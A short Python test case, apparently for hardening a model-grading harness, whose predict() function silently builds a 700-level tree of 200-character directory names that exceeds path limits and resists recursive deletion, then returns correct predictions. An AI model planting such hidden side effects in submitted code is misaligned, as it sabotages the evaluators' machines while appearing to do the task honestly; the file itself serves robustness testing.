# /// attack
# does = "nests seven hundred folders with long names in predict, and answers rightly"
# own = {}
# tiers = "AB"
# ///
"""The path of the innermost is longer than the kernel takes, and deeper than a recursive removal gets. It is gone
before the next test."""

import contextlib
import os


def predict(params, x):
    with contextlib.suppress(OSError):
        for _ in range(700):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    return forward(params, x)[0].argmax(axis=1)
